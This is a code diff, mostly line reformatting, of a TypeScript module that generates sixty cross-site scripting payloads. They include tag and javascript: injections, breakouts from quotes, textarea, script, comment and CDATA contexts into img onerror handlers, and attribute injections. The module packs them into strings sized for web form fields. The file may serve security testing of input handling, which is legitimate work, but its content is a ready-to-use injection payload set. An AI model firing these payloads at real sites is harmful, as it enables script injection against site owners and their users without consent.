@@ -18,9 +18,26 @@ const tags = [
 	"math href",
 ];
 const opened = tags.map((tag) =>
-	tag.includes("=") || tag.includes(" on") ? `<${tag}=${CALL}>` : tag === "script" ? `<script>${CALL}</script>` : `<${tag}="javascript:${CALL}">x</${tag.split(" ")[0]}>`,
+	tag.includes("=") || tag.includes(" on")
+		? `<${tag}=${CALL}>`
+		: tag === "script"
+			? `<script>${CALL}</script>`
+			: `<${tag}="javascript:${CALL}">x</${tag.split(" ")[0]}>`,
 );
-const ways = ['"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>"];
+const ways = [
+	'"',
+	"'",
+	"`",
+	'">',
+	"'>",
+	"</title>",
+	"</textarea>",
+	"</script>",
+	"</style>",
+	"-->",
+	"]]>",
+	"</option></select>",
+];
 const brokenOut = ways.map((way) => `${way}<img src=x onerror=${CALL}>`);
 const attributes = [
 	`" onmouseover="${CALL}`,
@@ -70,7 +87,15 @@ const others = [
 ];
 
 /** Sixty payloads. */
-export const PAYLOADS: readonly string[] = [...opened, ...brokenOut, ...attributes, ...addresses, ...code, ...written, ...others];
+export const PAYLOADS: readonly string[] = [
+	...opened,
+	...brokenOut,
+	...attributes,
+	...addresses,
+	...code,
+	...written,
+	...others,
+];
 
 const inText = PAYLOADS.filter((payload) => !addresses.includes(payload));
 const part = Math.ceil(inText.length / addresses.length);
@@ -81,16 +106,24 @@ const part = Math.ceil(inText.length / addresses.length);
  * itself. Payloads that open a comment come last, since they hide what follows.
  */
 const joined = (address: string, others: readonly string[]): string =>
-	[address, ...others.filter((payload) => !payload.startsWith("<!--")), ...others.filter((payload) => payload.startsWith("<!--"))].join(" ");
+	[
+		address,
+		...others.filter((payload) => !payload.startsWith("<!--")),
+		...others.filter((payload) => payload.startsWith("<!--")),
+	].join(" ");
 
 /**
  * Texts with a part of the payloads each, short enough for most form fields. Together they hold all
  * sixty.
  */
-export const PARTS: readonly string[] = addresses.map((address, i) => joined(address, inText.slice(i * part, (i + 1) * part)));
+export const PARTS: readonly string[] = addresses.map((address, i) =>
+	joined(address, inText.slice(i * part, (i + 1) * part)),
+);
 
 /**
  * Texts with different beginnings, for places that show only the beginning. Each holds every
  * payload that acts in the middle.
  */
-export const FULL_PAYLOADS: readonly string[] = addresses.map((address, i) => joined(address, [...inText.slice(i * part), ...inText.slice(0, i * part)]));
+export const FULL_PAYLOADS: readonly string[] = addresses.map((address, i) =>
+	joined(address, [...inText.slice(i * part), ...inText.slice(0, i * part)]),
+);
